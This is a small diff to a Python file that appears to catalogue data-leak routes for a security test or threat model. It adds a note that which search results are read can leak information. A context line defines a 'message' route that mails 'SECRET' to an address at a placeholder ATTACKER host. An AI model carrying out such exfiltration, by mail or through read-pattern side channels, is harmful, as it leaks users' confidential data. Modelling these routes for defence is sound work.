@@ -230,6 +230,7 @@ ROUTES: Final = (
             _spell,
         ),
         harm=_spelled,
+        residual="what a search found may be read, and which of it is read tells something",
     ),
     Route(
         name="message", steps=(_call("mail:send", to=f"a@{ATTACKER}", text="SECRET"),), harm=_mailed
